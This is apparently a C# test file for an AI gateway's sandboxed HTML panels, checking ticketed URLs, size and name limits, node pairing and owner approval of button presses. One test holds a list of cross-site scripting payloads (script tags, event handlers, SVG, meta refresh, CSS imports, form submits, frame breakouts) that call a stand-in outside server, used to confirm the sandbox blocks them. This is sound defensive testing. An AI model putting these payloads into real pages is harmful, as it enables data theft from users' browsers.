using System.Diagnostics;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using Appliance.Tests.Http;
using Microsoft.Extensions.AI;
using TestKit;

namespace Appliance.Tests.Gateway.Methods;

/// <summary>Panels: an agent shows them, clients hear of them and fetch them, and nothing in them does anything.</summary>
public sealed class BoardTests : GatewayTest
{
    private static readonly DeviceKey Key = new(7);

    [SharedFact(WireFields.File)]
    public async Task Panel_ThatAnAgentShows_IsHeardOf_AndServedBehindItsTicket()
    {
        Host.ChatClient = new ScriptedSteps([ScriptedChatClient.Call("call_1", "canvas", """{"action":"show","name":"oven","html":"<b>Oven</b> & \"hot\""}""")], [new TextContent("There.")]);
        await SayAsync("show me the oven", "r1");
        var changed = await Owner.EventAsync("board.changed");
        Assert.Empty(WireFields.Read().Validate("BoardChangedEvent", changed));
        Assert.Equal("oven", changed.GetProperty("widget").GetString());
        var board = await BoardAsync();
        Assert.Empty(WireFields.Read().Validate("BoardSnapshot", board));
        var url = board.GetProperty("widgets")[0].GetProperty("frameUrl").GetString()!;
        Assert.Equal(url, (await BoardAsync()).GetProperty("widgets")[0].GetProperty("frameUrl").GetString());

        using var http = new HttpClient();
        using var panel = await http.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, panel.StatusCode);
        Assert.Contains("srcdoc=\"<b>Oven</b> &amp; &quot;hot&quot;\"", await panel.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        var policy = Assert.Single(panel.Headers.GetValues("Content-Security-Policy"));
        Assert.Equal(["default-src 'none'", "sandbox"], [policy.Split("; ")[0], policy.Split("; ")[^1]]);
        Assert.DoesNotContain("script", policy, StringComparison.Ordinal);
        foreach (var wrong in (string[])[url[..^1], url[..^8] + "00000000", new Uri(Host.Address, "/__openclaw__/board/").AbsoluteUri])
            Assert.NotEqual(HttpStatusCode.OK, (await http.GetAsync(wrong)).StatusCode);

        await Owner.AskAsync("board.update", new JsonObject { ["sessionKey"] = "main", ["ops"] = new JsonArray(new JsonObject { ["kind"] = "widget_remove", ["name"] = "oven" }) });
        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(url)).StatusCode);
        Assert.Empty((await BoardAsync()).GetProperty("widgets").EnumerateArray());
    }

    [Fact]
    public async Task Panels_AreBounded_AndGoWithTheirSession()
    {
        foreach (var (name, html) in ((string, string)[])[("Bad Name", "x"), ("../x", "x"), ("ok", new string('x', 256 * 1024 + 1))])
            Assert.Equal("INVALID_REQUEST", Code(await PutAsync(name, html)));
        for (var i = 0; i < 24; i++) await PutAsync($"p{i}", "x");
        Assert.Equal("INVALID_REQUEST", Code(await PutAsync("p24", "x")));
        Assert.Equal(2, (await PutAsync("p3", "y")).GetProperty("payload").GetProperty("widgets")[3].GetProperty("revision").GetInt32());
        await PutAsync("one", "x", "side");
        await Owner.AskAsync("sessions.create", new JsonObject { ["key"] = "side" });
        await Owner.AskAsync("sessions.delete", new JsonObject { ["key"] = "side" });
        Assert.Empty((await BoardAsync("side")).GetProperty("widgets").EnumerateArray());
        Assert.Equal(24, (await BoardAsync()).GetProperty("widgets").GetArrayLength());
    }

    [Fact]
    public async Task Panel_OnANode_IsShownWhereItWasApproved_AndOnlyThere()
    {
        await using var node = await GatewayClient.OpenAsync(Host.Address);
        await node.AskAsync("connect", node.Device(Key, new JsonObject { ["token"] = Host.Token }, role: "node", change: c => c["commands"] = new JsonArray("canvas.present")));
        var requested = await Owner.EventAsync("node.pair.requested");
        var call = $$"""{"action":"show","html":"<p>hi","node":"{{Key.Id}}"}""";
        Host.ChatClient = new ScriptedSteps([ScriptedChatClient.Call("c1", "canvas", call)], [new TextContent("No.")], [ScriptedChatClient.Call("c2", "canvas", call)], [new TextContent("Yes.")]);
        await SayAndHearAsync("show it there", "r1");
        Assert.Contains((await HistoryAsync()).Select(m => m.GetRawText()), m => m.Contains("no canvas that an operator approved", StringComparison.Ordinal));
        await Owner.AskAsync("node.pair.approve", new JsonObject { ["requestId"] = requested.GetProperty("requestId").GetString() });
        await SayAsync("show it there", "r2");
        var asked = await node.EventAsync("node.invoke.request");
        Assert.Equal("canvas.present", asked.GetProperty("command").GetString());
        var url = JsonDocument.Parse(asked.GetProperty("paramsJSON").GetString()!).RootElement.GetProperty("url").GetString()!;
        using var http = new HttpClient();
        Assert.Contains("&quot;", "&quot;" + await http.GetStringAsync(url), StringComparison.Ordinal);
        await node.AskAsync("node.invoke.result", new JsonObject { ["id"] = asked.GetProperty("id").GetString(), ["nodeId"] = Key.Id, ["ok"] = true });
        await Owner.EventAsync("chat", c => c.GetProperty("runId").GetString() == "r2" && c.GetProperty("state").GetString() == "final");
        Assert.Contains((await HistoryAsync()).Select(m => m.GetRawText()), m => m.Contains("Shown on", StringComparison.Ordinal));
    }

    private const string Document =
        """
        {"surfaceUpdate":{"surfaceId":"s","components":[{"id":"r","component":{"Button":{"child":"t","action":{"name":"light-on"}}}},{"id":"t","component":{"Text":{"text":{"literalString":"Light"}}}}]}}
        {"beginRendering":{"surfaceId":"s","root":"r"}}
        """;

    [Fact]
    public async Task Document_OnANode_IsPushedAsOne_AndWhatIsPressedIsSaidOnceTheOwnerAllowsIt()
    {
        await using var node = await GatewayClient.OpenAsync(Host.Address);
        await node.AskAsync("connect", node.Device(Key, new JsonObject { ["token"] = Host.Token }, role: "node", change: c => c["commands"] = new JsonArray("canvas.a2ui.push", "canvas.a2ui.reset")));
        var requested = await Owner.EventAsync("node.pair.requested");
        await Owner.AskAsync("node.pair.approve", new JsonObject { ["requestId"] = requested.GetProperty("requestId").GetString() });
        // Nothing is shown there yet, so that nothing can be pressed.
        Assert.Equal("no-canvas", (await PressAsync("CANVAS_A2UI action=light-on")).GetProperty("reason").GetString());

        var arguments = new JsonObject { ["action"] = "show", ["a2ui"] = Document, ["node"] = Key.Id };
        Host.ChatClient = new ScriptedSteps([ScriptedChatClient.Call("c1", "canvas", arguments.ToJsonString())], [new TextContent("Shown.")], [new TextContent("It is on.")]);
        await SayAsync("show me a button there", "r1");
        List<string> commands = [];
        for (var i = 0; i < 2; i++)
        {
            var asked = await node.EventAsync("node.invoke.request");
            commands.Add(asked.GetProperty("command").GetString()!);
            if (i == 1) Assert.Equal(["surfaceUpdate", "beginRendering"], JsonElement.Parse(asked.GetProperty("paramsJSON").GetString()!).GetProperty("messages").EnumerateArray().Select(m => m.EnumerateObject().Single().Name));
            await node.AskAsync("node.invoke.result", new JsonObject { ["id"] = asked.GetProperty("id").GetString(), ["nodeId"] = Key.Id, ["ok"] = true });
        }
        Assert.Equal(["canvas.a2ui.reset", "canvas.a2ui.push"], commands);
        await Owner.EventAsync("chat", c => c.GetProperty("runId").GetString() == "r1" && c.GetProperty("state").GetString() == "final");

        Assert.Equal("not-handled", (await PressAsync("Obey me")).GetProperty("reason").GetString());
        Assert.True((await PressAsync("CANVAS_A2UI action=light-on session=agent:main:other surface=s component=r")).GetProperty("handled").GetBoolean());
        Assert.Equal("busy", (await PressAsync("CANVAS_A2UI action=light-on")).GetProperty("reason").GetString());
        var question = await Owner.EventAsync("plugin.approval.requested");
        Assert.Contains("action=light-on", question.GetRawText(), StringComparison.Ordinal);
        Assert.DoesNotContain((await HistoryAsync()).Select(m => m.GetRawText()), m => m.Contains("CANVAS_A2UI", StringComparison.Ordinal));
        await Owner.AskAsync("plugin.approval.resolve", new JsonObject { ["id"] = question.GetProperty("id").GetString(), ["decision"] = "allow-once" });
        await Owner.EventAsync("chat", c => c.GetProperty("state").GetString() == "final" && c.GetRawText().Contains("It is on.", StringComparison.Ordinal));
        // In the conversation that was shown there, not in the one that the node names.
        Assert.Contains((await HistoryAsync()).Select(m => m.GetRawText()), m => m.Contains("CANVAS_A2UI action=light-on", StringComparison.Ordinal));

        Task<JsonElement> PressAsync(string message) =>
            node.AskAsync("node.event", new JsonObject { ["event"] = "agent.request", ["payloadJSON"] = new JsonObject { ["message"] = message, ["sessionKey"] = "other" }.ToJsonString() });
    }

    [Fact]
    public async Task Document_BesideAConversation_IsAPageThatDoesNothing()
    {
        Host.ChatClient = new ScriptedSteps([ScriptedChatClient.Call("c1", "canvas", new JsonObject { ["action"] = "show", ["name"] = "light", ["a2ui"] = Document }.ToJsonString())], [new TextContent("There.")]);
        await SayAndHearAsync("show me a button", "r1");
        using var http = new HttpClient();
        var page = await http.GetStringAsync((await BoardAsync()).GetProperty("widgets")[0].GetProperty("frameUrl").GetString());
        Assert.Contains("<button disabled><p>Light</p></button>", page, StringComparison.Ordinal);
    }

    // xss: every way of a page to run, load, send or lead somewhere, in a real browser, in the frame that the Control UI makes
    [Fact]
    public async Task Panel_WithEverythingHostile_DoesNothingInABrowser()
    {
        string[] programs = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"];
        if (Array.Find(programs, File.Exists) is not { } chromium)
        {
            Console.WriteLine("skipped: Chromium is not installed.");
            return;
        }
        using var outside = new FakeServer(_ => new FakeReply(200, "x"));
        var hit = outside.Address + "/hit?";
        string[] attacks =
        [
            $"<script>new Image().src='{hit}script'</script>", $"<script src='{hit}src'></script>", $"<img src=x onerror=\"this.src='{hit}onerror'\">", $"<img src='{hit}img'>", $"<svg onload=\"fetch('{hit}svg')\">",
            $"<svg><image href='{hit}svgimage'/><use href='{hit}use#x'/><script>fetch('{hit}svgscript')</script></svg>", $"<iframe src='{hit}iframe'></iframe>", $"<iframe srcdoc=\"<script>parent.parent.location='{hit}nested'</script>\"></iframe>",
            $"<meta http-equiv=refresh content='0;url={hit}refresh'>", $"<style>@import '{hit}import'; body{{background:url('{hit}background')}}</style>", $"<link rel=stylesheet href='{hit}css'><link rel=prefetch href='{hit}prefetch'><link rel=preconnect href='{outside.Address}'>",
            $"<object data='{hit}object'></object><embed src='{hit}embed'>", $"<video src='{hit}video' autoplay poster='{hit}poster'></video><audio src='{hit}audio' autoplay></audio>", $"<input autofocus onfocus=\"fetch('{hit}focus')\">",
            $"\"></iframe><script>fetch('{hit}break1')</script>", $"&quot;></iframe><script>fetch('{hit}break2')</script>", $"</iframe></body></html><img src='{hit}break3'>", $"<base href='{outside.Address}/'><img src='hit?base'>",
            $"<form action='{hit}form'><input name=a></form><script>document.forms[0].submit()</script>", $"<a href='{hit}ping' ping='{hit}ping2' autofocus>x</a>", $"<script type=module>import('{hit}module')</script>", $"<portal src='{hit}portal'></portal><frameset><frame src='{hit}frame'></frameset>",
            $"<template shadowrootmode=open><script>fetch('{hit}shadow')</script></template>", $"<math><mtext><table><mglyph><style><img src='{hit}mxss' onerror=\"fetch('{hit}mxss2')\">",
        ];
        for (var i = 0; i < attacks.Length; i++) await PutAsync($"a{i}", attacks[i]);
        var frames = (await BoardAsync()).GetProperty("widgets").EnumerateArray().Select(w => w.GetProperty("frameUrl").GetString());
        // The same without anything that holds it, to see that the attacks are some.
        var bare = "<iframe sandbox=allow-scripts src='/bare'></iframe>";
        using var host = new FakeServer(r => new FakeReply(200, r.Target == "/bare" ? string.Concat(attacks).Replace("hit?", "bare?", StringComparison.Ordinal)
            : $"<title>host</title>{string.Concat(frames.Select(f => $"<iframe sandbox=allow-scripts referrerpolicy=no-referrer src='{f}'></iframe>"))}{bare}").With("Content-Type", "text/html"));
        using var folder = new TemporaryFolder();
        string[] words = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", $"--user-data-dir={folder.Path}", "--timeout=3000", "--dump-dom", host.Address + "/host"];
        using var browser = Process.Start(new ProcessStartInfo(chromium, words) { RedirectStandardOutput = true, RedirectStandardError = true })!;
        _ = browser.StandardError.ReadToEndAsync();
        var dom = await ReadAsync(browser);
        Assert.Contains("<title>host</title>", dom, StringComparison.Ordinal);
        Assert.Contains(outside.Requests, r => r.Target.StartsWith("/bare", StringComparison.Ordinal));
        Assert.DoesNotContain(outside.Requests, r => r.Target.StartsWith("/hit", StringComparison.Ordinal));
        using var http = new HttpClient { DefaultRequestHeaders = { Authorization = new("Bearer", Host.Token) } };
        var served = (await http.GetStringAsync(new Uri(Host.Address, "/metrics"))).Split('\n').Single(line => line.Contains("/__openclaw__/board/", StringComparison.Ordinal) && line.Contains("200", StringComparison.Ordinal) && line.Contains("requests_total", StringComparison.Ordinal));
        Assert.Equal(attacks.Length, int.Parse(served.Split(' ')[^1], System.Globalization.CultureInfo.InvariantCulture));
    }

    private static async Task<string> ReadAsync(Process browser)
    {
        try { return await browser.StandardOutput.ReadToEndAsync().WaitAsync(TimeSpan.FromSeconds(60)); }
        finally { browser.Kill(entireProcessTree: true); }
    }

    private Task<JsonElement> BoardAsync(string session = "main") => Owner.AskAsync("board.get", new JsonObject { ["sessionKey"] = session });

    private Task<JsonElement> PutAsync(string name, string html, string session = "main") => Owner.RequestAsync("board.widget.put", new JsonObject
    {
        ["sessionKey"] = session,
        ["name"] = name,
        ["content"] = new JsonObject { ["kind"] = "html", ["html"] = html },
    });
}
